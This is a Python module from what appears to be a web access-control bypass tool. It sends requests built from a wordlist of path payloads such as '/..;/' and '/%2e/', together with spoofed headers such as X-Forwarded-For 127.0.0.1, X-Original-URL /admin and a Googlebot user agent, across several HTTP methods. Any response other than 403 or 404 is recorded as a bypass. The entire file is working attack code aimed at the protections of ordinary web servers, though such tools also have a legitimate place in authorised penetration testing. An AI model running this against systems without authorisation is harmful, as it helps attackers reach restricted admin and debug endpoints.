"""Bypass attempts driven by a payload wordlist, alone and combined with headers."""

from __future__ import annotations

import posixpath

from .client import HttpClient, RequestError
from .models import BypassConfig, Result, parse_url
from .wordlist import WordlistError, default_payloads, load

MAX_COMBINED_PAYLOADS = 10

_FORM_TYPE = "application/x-www-form-urlencoded"
_WORDLIST_QUERIES = ("?id=1", "?admin=true", "?debug=true", "?access=true", "?token=1")
_COMBINED_QUERIES = ("?id=1", "?admin=true", "?debug=true")
_MINIMAL_PAYLOADS = ("/", "//", "/./", "/%2e/", "/%20", "/..;/")
_COMBINED_HEADERS = (
    {"X-Forwarded-For": "127.0.0.1"},
    {"X-Custom-IP-Authorization": "127.0.0.1"},
    {"X-Original-URL": "/admin"},
    {"X-Rewrite-URL": "/admin"},
    {"X-Forwarded-Host": "127.0.0.1"},
    {"X-Host": "127.0.0.1"},
    {"X-Remote-IP": "127.0.0.1"},
    {"User-Agent": "Googlebot/2.1 (+http://www.google.com/bot.html)"},
)
_COMBINED_METHODS = ("GET", "POST", "HEAD", "OPTIONS")


def _clean(path: str) -> str:
    cleaned = posixpath.normpath(path) if path else "."
    if cleaned.startswith("//"):
        cleaned = "/" + cleaned.lstrip("/")
    return cleaned


def _dir(path: str) -> str:
    return _clean(path[:path.rfind("/") + 1])


def _join(*parts: str) -> str:
    joined = "/".join(part for part in parts if part)
    return _clean(joined) if joined else ""


def _is_bypass(code: int) -> bool:
    return code not in (403, 404)


def wordlist_path_bypass(base_url: str, client: HttpClient,
                         config: BypassConfig) -> list[Result]:
    """GET each wordlist payload beside the target, then POST and query variants.

    Without a readable wordlist nothing is tried, unless verbose, when the
    built-in payloads are used. Raises URLParseError for an unparsable URL.
    """
    parsed = parse_url(base_url)
    try:
        payloads = load(config.wordlist_path)
    except WordlistError:
        if not config.verbose:
            return []
        payloads = default_payloads()

    base_dir = _dir(parsed.path)
    if base_dir in (".", "/"):
        base_dir = ""

    results: list[Result] = []
    for payload in payloads:
        target = parsed.with_path(_join(base_dir, payload))
        url = str(target)
        technique = "Wordlist Path: " + payload
        try:
            code = client.status("GET", url, {"User-Agent": config.user_agent})
        except RequestError:
            continue
        results.append(Result(url, code, "GET", technique))

        if _is_bypass(code):
            try:
                post_code = client.status("POST", url, {
                    "User-Agent": config.user_agent,
                    "Content-Type": _FORM_TYPE,
                })
            except RequestError:
                continue
            results.append(Result(url, post_code, "POST", technique))

        for query in (*_WORDLIST_QUERIES, "?_=" + payload):
            query_url = str(target.with_query(query[1:]))
            try:
                query_code = client.status("GET", query_url,
                                           {"User-Agent": config.user_agent})
            except RequestError:
                continue
            results.append(Result(query_url, query_code, "GET",
                                  "Wordlist Path + Query: " + payload + query))
    return results


def combined_bypass(base_url: str, client: HttpClient,
                    config: BypassConfig) -> list[Result]:
    """Try payload, header and method combinations, adding queries on success.

    At most the first ten payloads are used. Raises URLParseError for an
    unparsable URL.
    """
    parsed = parse_url(base_url)
    try:
        payloads = load(config.wordlist_path)
    except WordlistError:
        payloads = default_payloads() if config.verbose else list(_MINIMAL_PAYLOADS)
    payloads = payloads[:MAX_COMBINED_PAYLOADS]

    directory = _dir(parsed.path)
    results: list[Result] = []
    for payload in payloads:
        target = parsed.with_path(_join(directory, payload))
        url = str(target)
        for header in _COMBINED_HEADERS:
            names = "+".join(header)
            headers = {"User-Agent": config.user_agent, **header}
            technique = f"Combined: {names} + {payload}"
            for method in _COMBINED_METHODS:
                try:
                    code = client.status(method, url, headers)
                except RequestError:
                    continue
                results.append(Result(url, code, method, technique))
                if not _is_bypass(code):
                    continue
                for query in _COMBINED_QUERIES:
                    query_url = str(target.with_query(query[1:]))
                    try:
                        query_code = client.status(method, query_url, headers)
                    except RequestError:
                        continue
                    results.append(Result(query_url, query_code, method,
                                          technique + " + " + query))
    return results